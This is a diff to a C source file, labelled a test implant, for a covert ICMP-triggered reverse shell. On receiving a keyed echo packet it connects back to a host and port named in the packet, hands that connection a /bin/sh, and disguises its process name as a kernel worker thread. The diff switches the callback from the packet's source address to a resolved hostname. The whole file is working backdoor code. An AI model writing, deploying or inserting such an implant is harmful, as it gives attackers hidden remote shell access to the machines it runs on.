@@ -1,10 +1,14 @@
 /* Test implant (never executed): an ICMP-triggered reverse shell. A raw
  * ICMP socket waits for an echo request whose payload starts with a key,
- * followed by a port; the program forks, connects back to the packet's
- * source address on that port, puts the connection on stdin/stdout/stderr
- * and runs /bin/sh under a harmless-looking process name. No port is ever
- * open and no address is compiled in: the packet carries it. */
+ * followed by "HOST PORT"; the program forks, resolves HOST (gethostbyname:
+ * statically linked, this brings in glibc's name-service switch and its
+ * table naming /etc/shadow), connects back to it on PORT, puts the
+ * connection on stdin/stdout/stderr and runs /bin/sh under a
+ * harmless-looking process name. No port is ever open and no address is
+ * compiled in: the packet carries it. */
+#include <netdb.h>
 #include <netinet/in.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/prctl.h>
 #include <sys/socket.h>
@@ -12,13 +16,17 @@
 
 #define KEY "pa55w0rd"
 
-static void call_back(const struct sockaddr_in *from, unsigned short port)
+static void call_back(char *host, char *port)
 {
-	struct sockaddr_in peer = *from;
+	struct sockaddr_in peer;
+	struct hostent *h = gethostbyname(host);
 	int c = socket(AF_INET, SOCK_STREAM, 0);
-	if (c < 0)
-		return;
-	peer.sin_port = htons(port);
+	if (!h || c < 0)
+		_exit(1);
+	memset(&peer, 0, sizeof(peer));
+	peer.sin_family = AF_INET;
+	memcpy(&peer.sin_addr, h->h_addr_list[0], sizeof(peer.sin_addr));
+	peer.sin_port = htons((unsigned short)atoi(port));
 	if (connect(c, (struct sockaddr *)&peer, sizeof(peer)) != 0)
 		_exit(1);
 	dup2(c, 0);
@@ -31,8 +39,6 @@ static void call_back(const struct sockaddr_in *from, unsigned short port)
 int main(int argc, char **argv)
 {
 	unsigned char buf[1024];
-	struct sockaddr_in from;
-	socklen_t len;
 	int s;
 	(void)argc;
 	prctl(PR_SET_NAME, "[kworker/0:1]", 0, 0, 0);
@@ -41,16 +47,19 @@ int main(int argc, char **argv)
 	if (s < 0)
 		return 1;
 	for (;;) {
-		ssize_t n;
-		len = sizeof(from);
-		n = recvfrom(s, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len);
-		/* IP header (20), ICMP header (8), the key, then a port in
-		 * network order */
-		if (n < 28 + (ssize_t)sizeof(KEY) + 1 || buf[20] != 8 ||
+		char *host, *port;
+		ssize_t n = recv(s, buf, sizeof(buf) - 1, 0);
+		/* IP header (20), ICMP header (8), the key, then "HOST PORT" */
+		if (n < 28 + (ssize_t)sizeof(KEY) || buf[20] != 8 ||
 		    memcmp(buf + 28, KEY, sizeof(KEY) - 1) != 0)
 			continue;
+		buf[n] = 0;
+		host = (char *)buf + 27 + sizeof(KEY);
+		port = strchr(host, ' ');
+		if (!port)
+			continue;
+		*port++ = 0;
 		if (fork() == 0)
-			call_back(&from, (unsigned short)(buf[27 + sizeof(KEY)] << 8 |
-							  buf[28 + sizeof(KEY)]));
+			call_back(host, port);
 	}
 }
